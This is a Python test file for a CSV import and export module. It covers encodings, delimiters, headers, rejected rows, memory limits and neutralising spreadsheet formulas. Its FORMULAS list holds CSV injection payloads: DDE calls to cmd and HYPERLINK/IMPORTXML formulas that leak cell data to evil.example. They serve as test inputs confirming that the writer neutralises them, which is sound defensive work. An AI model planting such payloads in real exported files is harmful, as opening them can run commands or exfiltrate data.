"""Reading and writing CSV files on real files written here: encodings, delimiters, line
endings, quoting, headers, whole-file refusals, rejected rows, bounded memory, formula
neutralisation and the error file's round trip."""

import codecs
import csv
import io
import itertools
import random
import subprocess
import sys
import tracemalloc
import zipfile

import pytest

from tui_clients.domain.csv.read import (
    COLUMNS,
    REASON_HEADER,
    REASON_HEADERS,
    ErrorFileWriter,
    FileRefused,
    neutralise,
    open_csv,
    unneutralise,
    write_csv,
)
from tui_clients.domain.errors import shown
from tui_clients.domain.i18n import translate
from tui_clients.domain.text import compact_key

TEMPLATE = [
    "Name",
    "Email",
    "Telephone",
    "CompanyId",
    "Latitude-Longitude",
    "Address",
    "AddressDetail",
    "State",
    "UniqueReference",
]
ROW = [
    "Peña Ñandú S.A.",
    "josé@peña.mx",
    "55 1234 5678",
    "",
    "19.43,-99.13",
    "Av. Reforma 222, Ciudad de México",
    "Piso 3 – “B”",
    "1",
    "PNA550101AA3",
]
MB = 1 << 20


def text_of(header, rows, delimiter=",", newline="\r\n"):
    buf = io.StringIO()
    csv.writer(buf, delimiter=delimiter, lineterminator=newline).writerows([header, *rows])
    return buf.getvalue()


def write(path, header=TEMPLATE, rows=(ROW,), *, delimiter=",", encoding="utf-8", newline="\r\n"):
    path.write_bytes(text_of(header, rows, delimiter, newline).encode(encoding))
    return path


def read(path, **limits):
    with open_csv(path, **limits) as source:
        return source, list(source.rows())


def refused(path):
    with pytest.raises(FileRefused) as info:
        open_csv(path)
    error = info.value.error
    assert error.field == "file" and error.message("en") and error.message("es")
    return error


def problems(row):
    return [(e.field, e.code) for e in row.problems]


# --- encodings ---------------------------------------------------------------------


@pytest.mark.parametrize(
    ("encoding", "detected"),
    [("utf-8", "utf-8"), ("utf-8-sig", "utf-8-sig"), ("cp1252", "cp1252")],
)
def test_utf8_with_and_without_bom_and_windows_1252_decode_exactly(tmp_path, encoding, detected):
    rows = [ROW, ["“ANDRÉS” Núñez €", "", "", "", "", "Cañón, ¿qué? ¡sí! °", "", "0", "X-1"]]
    source, read_rows = read(write(tmp_path / "c.csv", rows=rows, encoding=encoding))
    assert source.encoding == detected
    assert source.header == TEMPLATE  # no BOM glued to "Name"
    assert [r.cells for r in read_rows] == rows
    assert read_rows[0].values["Name"] == "Peña Ñandú S.A." and read_rows[0].problems == ()


@pytest.mark.parametrize("codec", ["utf-16-le", "utf-16-be", "utf-32-le"])
def test_unicode_text_with_a_byte_order_mark_tab_delimited(tmp_path, codec):
    """Excel's "Unicode text": UTF-16 LE with BOM and tabs."""
    bom = {
        "utf-16-le": codecs.BOM_UTF16_LE,
        "utf-16-be": codecs.BOM_UTF16_BE,
        "utf-32-le": codecs.BOM_UTF32_LE,
    }[codec]
    path = tmp_path / "u.txt"
    path.write_bytes(bom + text_of(TEMPLATE, [ROW, ROW], "\t").encode(codec))
    source, rows = read(path)
    assert source.delimiter == "\t" and source.encoding.startswith("utf-")
    assert [r.cells for r in rows] == [ROW, ROW]


def test_a_utf8_file_with_a_stray_byte_rejects_only_that_row(tmp_path):
    good = text_of(TEMPLATE, [ROW]).encode()
    path = tmp_path / "mixed.csv"
    path.write_bytes(good + b"Caf\xe9 Lima,,,,,,,1,X-2\r\n" + good.split(b"\r\n", 1)[1])
    source, rows = read(path)
    assert source.encoding == "utf-8"
    assert rows[0].cells == rows[2].cells == ROW and rows[0].problems == rows[2].problems == ()
    assert problems(rows[1]) == [("Name", "encoding")]
    assert "Caf�" in rows[1].problem.message("en")


def test_windows_1252_with_a_byte_it_leaves_undefined_is_not_text(tmp_path):
    path = tmp_path / "x.csv"
    path.write_bytes("Name,UniqueReference\r\nPeña,1\r\n".encode("cp1252") + b"A\x81B,2\r\n")
    assert refused(path).code == "not_text"


def test_binary_files_and_damaged_workbooks_are_refused(tmp_path):
    noise = tmp_path / "noise.csv"
    noise.write_bytes(random.Random(5).randbytes(20_000))
    assert refused(noise).code == "not_text"
    no_bom = tmp_path / "utf16.csv"  # UTF-16 without its BOM: half the bytes are NUL
    no_bom.write_bytes(text_of(TEMPLATE, [ROW] * 3).encode("utf-16-le"))
    assert refused(no_bom).code == "not_text"
    book = tmp_path / "clientes.csv"
    with zipfile.ZipFile(book, "w") as z:
        z.writestr("xl/workbook.xml", "<workbook/>")
    assert refused(book).code == "workbook_damaged"  # a workbook (by its content) is read
    assert "dañado" in refused(book).message("es")  # as one: this one is not whole


def test_a_byte_order_mark_on_bytes_that_do_not_follow_it_is_refused(tmp_path):
    path = tmp_path / "bad16.csv"
    path.write_bytes(codecs.BOM_UTF16_LE + "Name\tUniqueReference\r\n".encode("utf-16-le") + b"A")
    error = refused(path)
    assert error.code == "encoding" and "UTF-16" in error.message("en")


@pytest.mark.parametrize("data", [b"", codecs.BOM_UTF8, b"\r\n\r\n  \n", b"\xef\xbb\xbf\n\n"])
def test_an_empty_file_is_one_message(tmp_path, data):
    path = tmp_path / "empty.csv"
    path.write_bytes(data)
    assert refused(path).code == "empty"


def test_a_missing_file_or_a_folder_is_refused_not_a_traceback(tmp_path):
    assert refused(tmp_path / "nowhere.csv").code == "missing"
    assert refused(tmp_path).code == "not_a_file"


# --- delimiters, line endings, quoting -----------------------------------------------


@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
@pytest.mark.parametrize("newline", ["\n", "\r\n", "\r"])
def test_each_delimiter_and_line_ending(tmp_path, delimiter, newline):
    rows = [ROW, ["Ana; Pérez, Díaz\tjr", "", "", "", "", "Calle 1", "", "1", "A-1"]]
    path = tmp_path / "d.csv"
    path.write_bytes(text_of(TEMPLATE, rows, delimiter, newline).encode())
    source, read_rows = read(path)
    assert source.delimiter == delimiter
    assert [r.cells for r in read_rows] == rows
    assert [r.line for r in read_rows] == [2, 3]


def test_quoted_cells_hold_delimiters_quotes_and_line_breaks_and_lines_are_counted(tmp_path):
    path = tmp_path / "q.csv"
    path.write_bytes(
        b"Name;UniqueReference;Address\r\n"
        b'"Ana ""la jefa""; Lima";A-1;"Jr. Uni\xc3\xb3n 1\nPiso 2\r\nOficina ""B"""\r\n'
        b'Bob;B-2;5" pantalla\r\n'  # a quote inside an unquoted cell is text, as in csv
        b'"Carla"  Ruiz;C-3;"x"\r'
        b'Dan;D-4;"multi\rline"\n'
        b"Eva;E-5;x"  # no line break at the end
    )
    _, rows = read(path)
    assert [r.cells for r in rows] == [
        ['Ana "la jefa"; Lima', "A-1", 'Jr. Unión 1\nPiso 2\r\nOficina "B"'],
        ["Bob", "B-2", '5" pantalla'],
        ["Carla  Ruiz", "C-3", "x"],
        ["Dan", "D-4", "multi\rline"],
        ["Eva", "E-5", "x"],
    ]
    assert [r.line for r in rows] == [2, 5, 6, 7, 9]


def test_the_delimiter_is_the_one_that_names_known_columns(tmp_path):
    path = tmp_path / "s.csv"
    path.write_bytes(b"Nombre;Documento;Notas, varias, cosas, m\xc3\xa1s\r\nAna, B;1;x, y\r\n")
    source, rows = read(path)
    assert source.delimiter == ";" and source.ignored == ["Notas, varias, cosas, más"]
    assert rows[0].values == {"Name": "Ana, B", "UniqueReference": "1"}


def test_excel_sep_line_decides_the_delimiter(tmp_path):
    path = tmp_path / "sep.csv"
    path.write_bytes(b"sep=;\r\nName;UniqueReference\r\nAna;1\r\n")
    source, rows = read(path)
    assert source.delimiter == ";" and rows[0].values == {"Name": "Ana", "UniqueReference": "1"}
    assert rows[0].line == 3


@pytest.mark.parametrize("filler", [" " * 11, "\u2028" + " " * 8])  # U+2028: not a line break
def test_a_crlf_split_between_two_reads_is_one_line_break(tmp_path, filler):
    """The reader reads 256 KiB at a time: put a \\r at the last byte of the first read."""
    header = "Name,UniqueReference" + filler + "\r\n"  # 33 bytes: rows of 32 end on a read
    rows = "".join(f"Cliente {i:010d},R-{i:09d}\r\n" for i in range(8200))
    assert len(header.encode()) == 33 and rows.index("\r\n") == 30
    path = tmp_path / "big.csv"
    path.write_bytes((header + rows).encode())
    assert path.read_bytes()[(1 << 18) - 1 : (1 << 18) + 1] == b"\r\n"
    _, read_rows = read(path)
    assert len(read_rows) == 8200 and all(r.problems == () for r in read_rows)
    assert [r.line for r in read_rows[-2:]] == [8200, 8201]


def test_records_are_the_ones_pythons_csv_reader_sees(tmp_path):
    """Differential check on random text made of the characters that matter."""
    rng = random.Random(42)
    alphabet = ["a", "b", "é", " ", ",", ";", '"', '"', "\r", "\n", "\r\n", "\u2028"]
    for case in range(400):
        body = "".join(rng.choice(alphabet) for _ in range(rng.randrange(60)))
        path = tmp_path / f"r{case}.csv"
        path.write_bytes(("Name,UniqueReference\n" + body).encode())
        expected, start = [], 2
        reader = csv.reader(io.StringIO(body, newline=""))
        for cells in reader:
            if any(c.strip() for c in cells):
                expected.append((start, cells))
            start = reader.line_num + 2
        _, rows = read(path)
        assert [(r.line, r.cells) for r in rows] == expected, repr(body)


# --- headers -------------------------------------------------------------------------


def test_columns_in_any_order_matched_ignoring_case_spaces_accents_and_in_spanish(tmp_path):
    header = [
        "  referencia ÚNICA ",
        "TELÉFONO",
        "nombre",
        "Latitud - Longitud",
        "correo",
        "Tipo de Documento",
        "regimen_fiscal",
        "Uso de CFDI",
        "CELULAR",
        "Estado (región)",
        "Estado",
        "Código postal",
        "Otros correos",
        "Detalle",
    ]
    values = [f"v{i}" for i in range(len(header))]
    source, rows = read(write(tmp_path / "h.csv", header, [values]))
    assert rows[0].values == {
        "UniqueReference": "v0",
        "Telephone": "v1",
        "Name": "v2",
        "Latitude-Longitude": "v3",
        "Email": "v4",
        "DocumentType": "v5",
        "RegimenFiscal": "v6",
        "UsoCFDI": "v7",
        "Mobile": "v8",
        "Region": "v9",
        "State": "v10",
        "PostalCode": "v11",
        "ExtraEmails": "v12",
        "AddressDetail": "v13",
    }
    assert source.ignored == [] and source.header == header
    assert source.header_of("Telephone") == "TELÉFONO" and source.header_of("Email") == "correo"


def test_every_alias_names_one_column_and_the_template_comes_first():
    assert [c.key for c in COLUMNS[:9]] == TEMPLATE
    assert [c.key for c in COLUMNS if c.required] == ["Name", "UniqueReference"]
    owners = {}
    for column in COLUMNS:
        for name in (column.key, *column.aliases):
            owners.setdefault(compact_key(name), set()).add(column.key)
    assert all(len(keys) == 1 for keys in owners.values()), owners
    assert not owners.keys() & {compact_key(n) for n in REASON_HEADERS}


def test_a_missing_required_column_names_it(tmp_path):
    error = refused(write(tmp_path / "m.csv", ["Nombre", "Correo", "Teléfono"], [["a", "b", "c"]]))
    assert error.code == "missing_column" and error.value == "UniqueReference"
    assert "UniqueReference" in error.message("es") and "Teléfono" in error.message("es")
    no_header = refused(write(tmp_path / "n.csv", ROW, [ROW]))  # the first line is data
    assert no_header.value == "Name, UniqueReference"


def test_a_column_named_twice_is_refused(tmp_path):
    error = refused(
        write(tmp_path / "d.csv", ["Name", "UniqueReference", "Nombre"], [["a", "1", "b"]])
    )
    assert (error.code, error.value) == ("duplicate_column", "Name")
    assert "“Name”" in error.message("en") and "“Nombre”" in error.message("en")


def test_unknown_columns_are_reported_as_ignored_and_unnamed_ones_silently(tmp_path):
    header = ["Name", "Notas internas", "UniqueReference", "", " "]
    source, rows = read(write(tmp_path / "u.csv", header, [["Ana", "vip", "1", "", ""]]))
    assert source.ignored == ["Notas internas"]
    assert rows[0].values == {"Name": "Ana", "UniqueReference": "1"}
    assert rows[0].cells == ["Ana", "vip", "1", "", ""]


def test_a_header_too_long_or_with_a_quote_never_closed_is_refused(tmp_path):
    path = tmp_path / "h.csv"
    path.write_bytes(b'Name,"UniqueReference\r\nAna,1\r\n')
    assert refused(path).code == "header"
    path.write_bytes(b"Name," + b"x" * 200_000 + b"\r\n")
    assert refused(path).code == "header"


# --- rows ----------------------------------------------------------------------------


def test_rows_with_the_wrong_number_of_cells_are_rejected_and_reading_goes_on(tmp_path):
    path = tmp_path / "w.csv"
    path.write_bytes(b"Name,UniqueReference,Email\r\nAna,1\r\nBob,2,b@x.co,extra\r\nCarla,3,\r\n")
    _, rows = read(path)
    assert [problems(r) for r in rows] == [[("row", "field_count")]] * 2 + [[]]
    assert rows[0].problem.message("en") == "The row has 2 cells; the header has 3."
    assert rows[2].values == {"Name": "Carla", "UniqueReference": "3", "Email": ""}


def test_blank_rows_are_skipped_but_counted_as_lines(tmp_path):
    path = tmp_path / "b.csv"
    path.write_bytes(b"Name,UniqueReference\r\n\r\n,\r\n , \r\nAna,1\r\n\r\n")
    _, rows = read(path)
    assert [(r.line, r.cells) for r in rows] == [(5, ["Ana", "1"])]


@pytest.mark.parametrize(
    ("column", "value", "code"),
    [
        ("Name", "Ana\x00Pérez", "control_character"),
        ("Name", "Ana \x1b[31mroja", "control_character"),
        ("Address", "Calle\x07 1", "control_character"),
        ("Name", "Ana \x85 Pérez", "control_character"),
        ("Name", "abc\u202egpj.exe", "control_character"),
        ("Name", "Caf\ufffd", "encoding"),
        ("Telephone", "5.51235E+09", "scientific_notation"),
        ("Telephone", "5,51235E+09", "scientific_notation"),
        ("UniqueReference", "1E+12", "scientific_notation"),
        ("CompanyId", "9.00123E+08", "scientific_notation"),
        ("Telephone", "#N/A", "spreadsheet_error"),
        ("Name", "#¡VALOR!", "spreadsheet_error"),
        ("Email", "#VALUE!", "spreadsheet_error"),
        ("Address", "#REF!", "spreadsheet_error"),
        ("Address", "#¡REF!", "spreadsheet_error"),
        ("State", "#DIV/0!", "spreadsheet_error"),
        ("State", "#¡DIV/0!", "spreadsheet_error"),
        ("Name", "#NAME?", "spreadsheet_error"),
        ("Name", "#¿NOMBRE?", "spreadsheet_error"),
        ("Name", " #N/D ", "spreadsheet_error"),
        ("Name", "#NULL!", "spreadsheet_error"),
        ("Name", "#NUM!", "spreadsheet_error"),
        ("Latitude-Longitude", "########", "spreadsheet_error"),
        ("Name", "Err:502", "spreadsheet_error"),
    ],
)
def test_damaged_cells_are_rejected_naming_column_and_value(tmp_path, column, value, code):
    row = dict(zip(TEMPLATE, ROW, strict=True)) | {column: value}
    _, rows = read(write(tmp_path / "v.csv", rows=[list(row.values()), ROW]))
    assert problems(rows[0]) == [(column, code)]
    assert shown(value.strip()) in rows[0].problem.message("es")
    assert rows[1].problems == ()


@pytest.mark.parametrize(
    ("column", "value"),
    [
        ("Address", "Cra. 71a #75b-24, Bogotá"),
        ("AddressDetail", "#12"),
        ("Name", "2E+10 S.A."),
        ("Name", "1E+10"),
        ("UniqueReference", "5E3"),
        ("Telephone", "+51 987 654 321"),
        ("Address", "Calle 1\nPiso 2\tfondo"),
        ("Name", "N/A"),
    ],
)
def test_values_that_only_look_damaged_pass(tmp_path, column, value):
    row = dict(zip(TEMPLATE, ROW, strict=True)) | {column: value}
    _, rows = read(write(tmp_path / "v.csv", rows=[list(row.values())]))
    assert rows[0].problems == () and rows[0].values[column] == value


def test_each_damaged_cell_of_a_row_is_reported(tmp_path):
    _, rows = read(
        write(
            tmp_path / "v.csv",
            ["Name", "Telephone", "UniqueReference"],
            [["#N/A", "5.5E+09", "ok"]],
        )
    )
    assert problems(rows[0]) == [
        ("Name", "spreadsheet_error"),
        ("Telephone", "scientific_notation"),
    ]


def test_a_long_cell_is_rejected_with_its_length_and_the_limit_can_be_set(tmp_path):
    path = write(
        tmp_path / "l.csv", ["Name", "UniqueReference"], [["x" * 10_001, "1"], ["ok", "2"]]
    )
    _, rows = read(path)
    assert problems(rows[0]) == [("Name", "too_long")] and rows[1].problems == ()
    message = rows[0].problem.message("en")
    assert "10001" in message and "10000" in message and len(message) < 200
    _, rows = read(path, max_field=2)
    assert problems(rows[1]) == [] and problems(rows[0]) == [("Name", "too_long")]


def _huge(path, cell_chunk: bytes, megabytes: int, *, before=b"", after=b""):
    with path.open("wb") as fh:
        fh.write(b"Name,Address,UniqueReference\r\nAna,Calle 1,A-1\r\nBig," + before)
        for _ in range(megabytes):
            fh.write(cell_chunk * (MB // len(cell_chunk)))
        fh.write(after + b",B-2\r\nCarla,Calle 3,C-3\r\n")
    return path


def _read_measured(path):
    tracemalloc.start()
    try:
        source, rows = read(path)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    return source, rows, peak


def test_a_50_mb_cell_is_rejected_in_bounded_memory_and_reading_goes_on(tmp_path):
    path = _huge(tmp_path / "huge.csv", b"calle larga ", 50)
    source, rows, peak = _read_measured(path)
    assert peak < 30 * MB, peak
    assert [r.values["Name"] for r in rows] == ["Ana", "Big", "Carla"]
    assert [r.line for r in rows] == [2, 3, 4]
    big = rows[1]
    assert problems(big) == [("Address", "too_long")] and rows[2].problems == ()
    assert "calle larga" in big.problem.message("es") and len(big.problem.message("es")) < 200
    assert len(big.cells[1]) == 10_001 and big.cells[1].endswith("…")  # still too long
    assert source.position == path.stat().st_size


def test_a_huge_quoted_cell_with_quotes_and_line_breaks_is_skipped_whole(tmp_path):
    chunk = b'say ""hi"", then\r\nnext line, and more text here\n'
    path = _huge(tmp_path / "quoted.csv", chunk, 8, before=b'"', after=b'"')
    _, rows, peak = _read_measured(path)
    assert peak < 30 * MB, peak
    assert [(r.values["Name"], problems(r)) for r in rows] == [
        ("Ana", []),
        ("Big", [("Address", "too_long")]),
        ("Carla", []),
    ]
    assert rows[2].line == 4 + 2 * 8 * (MB // len(chunk))


def test_a_quote_never_closed_rejects_the_rest_of_the_file_as_one_row(tmp_path):
    path = tmp_path / "open.csv"
    path.write_bytes(b'Name,UniqueReference\r\nAna,1\r\nBig,"' + b"abc,def\r\n" * 300_000)
    _, rows, peak = _read_measured(path)
    assert peak < 30 * MB, peak
    assert [problems(r) for r in rows] == [[], [("row", "unclosed_quote")]]


def test_a_row_longer_than_the_limit_with_short_cells_is_rejected_as_a_row(tmp_path):
    path = tmp_path / "wide.csv"
    path.write_bytes(b"Name,UniqueReference\r\nAna,1" + b",abc" * 40_000 + b"\r\nBob,2\r\n")
    _, rows = read(path)
    assert [problems(r) for r in rows] == [[("row", "row_too_long")], []]


# --- neutralising formulas -------------------------------------------------------------


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=SUM(A1)", "'=SUM(A1)"),
        ("+51 987 654 321", "+51 987 654 321"),  # digits and + - . , ( ): no formula
        ("-12.04,-77.03", "-12.04,-77.03"),
        ("+52 (33) 3615-2200", "+52 (33) 3615-2200"),
        ("-5", "-5"),
        ("+51 987 654 321 ext", "'+51 987 654 321 ext"),
        ("-12.04;-77.03", "'-12.04;-77.03"),
        ("'+51 987", "''+51 987"),
        ("@cmd", "'@cmd"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("\nx", "'\nx"),
        ("'=x", "''=x"),
        ("''+1", "'''+1"),
        ("'hola", "'hola"),
        ("O'Brien", "O'Brien"),
        ("'", "'"),
        ("", ""),
        ("a=b", "a=b"),
        (" =1", " =1"),
    ],
)
def test_neutralise_examples(cell, written):
    assert neutralise(cell) == written and unneutralise(written) == cell


def test_neutralise_round_trips_every_short_tricky_string():
    alphabet = ["'", "=", "+", "-", "@", "\t", "\r", "\n", "a", " ", '"', ","]
    for size in range(5):
        for chars in itertools.product(alphabet, repeat=size):
            cell = "".join(chars)
            guarded = neutralise(cell)
            assert unneutralise(guarded) == cell
            harmless = set(cell) <= set("0123456789 +-.,()")
            assert guarded[:1] not in set("=+-@\t\r\n") or harmless
            assert guarded == cell or guarded == "'" + cell


# Real numbers as offices write them: left as they are (Excel shows them as typed)
REAL_NUMBERS = [
    "+523336152200",  # a Guadalajara landline, E.164
    "+52 33 3615 2200",
    "+51 1 311 7171",  # Lima
    "+57 (601) 382 3300",  # Bogotá, with its area code in brackets
    "-12.04318,-77.02824",  # Plaza Mayor, Lima
    "4.59805, -74.07611",
    "-33.45694, -70.64827",
    "-1,234.50",
]
# OWASP's CSV injection payloads and their kin: neutralised
FORMULAS = [
    "=1+2",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A1&A2,"Error: click")',
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "-1+1)*cmd|' /C calc'!A0",
    "=10+20+cmd|' /C calc'!A0",
    "+1+2+cmd|' /C calc'!A0",
    '=IMPORTXML(CONCAT("http://evil.example/?v=", CONCATENATE(A2:E2)), "//a")',
    '=DDE("cmd";"/C calc";"!A0")A0',
    "\t=1+2",
    "-12.04318,-77.02824+cmd|' /C calc'!A0",
    "+52 33 3615 2200;=1+1",
]


@pytest.mark.parametrize("cell", REAL_NUMBERS)
def test_phones_and_coordinates_are_written_as_they_are(tmp_path, cell):
    path = tmp_path / "out.csv"
    write_csv(path, ["Name", "Telephone"], [["Ana", cell]])
    text = path.read_text(encoding="utf-8-sig")
    assert list(csv.reader(io.StringIO(text)))[1] == ["Ana", cell] and "'" not in text


@pytest.mark.parametrize("cell", FORMULAS)
def test_formula_payloads_are_neutralised(tmp_path, cell):
    assert neutralise(cell) == "'" + cell and unneutralise(neutralise(cell)) == cell
    path = tmp_path / "out.csv"
    write_csv(path, ["Name", "UniqueReference", "Notes"], [["Ana", "X1", cell]])
    _source, rows = read(path)
    assert [r.cells for r in rows] == [["Ana", "X1", cell]]  # read back as it was
    written = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"))))[1][2]
    assert written == "'" + cell


TRICKY = [
    ['=HYPERLINK("http://x","y")', "'+57 300 765 4321", "-5", "@SUM(1)", "\tindent"],
    ["'90s Music", "''=twice", 'O\'Brien; "Bob", Jr.', "line\r\nbreak\nand\rcr", "  spaced  "],
    ["emoji 🚀 ñ €", "", "'", "''", "\u202e bidi kept as text"],
]


@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
def test_written_cells_read_back_unchanged_and_export_is_stable(tmp_path, delimiter):
    header = ["Name", "UniqueReference", "Notes", "Address", "Extra"]
    first = tmp_path / "export.csv"
    assert write_csv(first, header, TRICKY, delimiter=delimiter) == 3
    data = first.read_bytes()
    assert data.startswith(codecs.BOM_UTF8) and data.endswith(b"\r\n")
    assert b"'=HYPERLINK" in data and b"'''=twice" in data
    source, rows = read(first)
    assert source.delimiter == delimiter and source.header == header
    assert [r.cells for r in rows] == TRICKY
    again = tmp_path / "again.csv"
    write_csv(again, source.header, [r.cells for r in rows], delimiter=delimiter)
    assert again.read_bytes() == data


def test_write_csv_to_a_stream():
    out = io.StringIO(newline="")
    assert write_csv(out, ["Name"], [["=1"], ["a"]], bom=False) == 2
    assert out.getvalue() == "Name\r\n'=1\r\na\r\n"


# --- the error file ------------------------------------------------------------------


def test_the_error_file_reads_back_and_its_reason_column_is_ignored(tmp_path):
    rows = [
        [*ROW[:2], "=cmd|' /C calc'!A0", *ROW[3:]],
        ["Corta", "", "1"],
        ["Larga", *ROW[1:], "sobra"],
        ["Caf\udce9", *ROW[1:]],
    ]
    path = tmp_path / "errores.csv"
    with ErrorFileWriter(path, TEMPLATE, ";", "Motivo") as writer:
        for row in rows:
            writer.write(row, "Línea 2 · Teléfono: “=cmd” no es un teléfono")
    assert writer.rows == 4
    data = path.read_bytes()
    assert data.startswith(codecs.BOM_UTF8) and data.count(b"\r\n") == 5
    assert b"'=cmd" in data and "Caf\ufffd".encode() in data
    source, back = read(path)
    assert source.delimiter == ";" and source.header == TEMPLATE and source.ignored == []
    assert back[0].cells == rows[0] and back[0].problems == ()
    assert back[1].cells == ["Corta", "", "1", *[""] * 6]  # padded: the reason stays in its column
    assert problems(back[2]) == [("row", "field_count")]
    assert problems(back[3]) == [("Name", "encoding")]  # rejected again until fixed


def test_an_error_file_fixed_in_excel_imports_again(tmp_path):
    path = tmp_path / "errores.csv"
    with ErrorFileWriter(path, ["Name", "UniqueReference"]) as writer:
        writer.write(["Ana", "#N/A"], "Línea 2 · UniqueReference: “#N/A” …")
    fixed = path.read_text(encoding="utf-8-sig").replace("#N/A", "A-1")
    path.write_text(fixed, encoding="utf-8-sig", newline="")
    source, rows = read(path)
    assert source.header == ["Name", "UniqueReference"]
    assert rows[0].values == {"Name": "Ana", "UniqueReference": "A-1"} and rows[0].problems == ()
    # Excel drops the reason column when the user empties it, but keeps its header
    path.write_bytes(b"Name,UniqueReference,Error\r\nAna,A-1\r\n")
    assert problems(read(path)[1][0]) == []


@pytest.mark.parametrize("lang", ["es", "en"])
def test_the_default_reason_header_is_known_as_a_reason_column(lang):
    assert compact_key(translate(REASON_HEADER, lang)) in {compact_key(h) for h in REASON_HEADERS}


# --- never a traceback -----------------------------------------------------------------


def test_damaged_files_give_messages_not_tracebacks(tmp_path):
    rng = random.Random(7)
    good = text_of(TEMPLATE, [ROW, TRICKY[1] + ROW[5:], ROW]).encode("utf-8")
    pieces = [b'"', b"\r", b"\n", b"\x00", b"\xe9", b"\x81", b";", b",", b"\xff\xfe", b"\t", b"'="]
    for case in range(300):
        data = bytearray(good)
        for _ in range(rng.randrange(1, 6)):
            at = rng.randrange(len(data))
            data[at : at + rng.randrange(3)] = rng.choice(pieces)
        path = tmp_path / f"f{case}.csv"
        path.write_bytes(bytes(data))
        try:
            _, rows = read(path)
        except FileRefused as exc:
            assert exc.error.message("es")
        else:
            assert all(e.message("es") for r in rows for e in r.problems)


def test_the_csv_modules_import_neither_textual_nor_peewee():
    code = (
        "import sys, tui_clients.domain.csv.read; "
        "print(sorted(m for m in ('peewee', 'textual') if m in sys.modules))"
    )
    result = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True)
    assert result.stdout.strip() == "[]", result.stderr
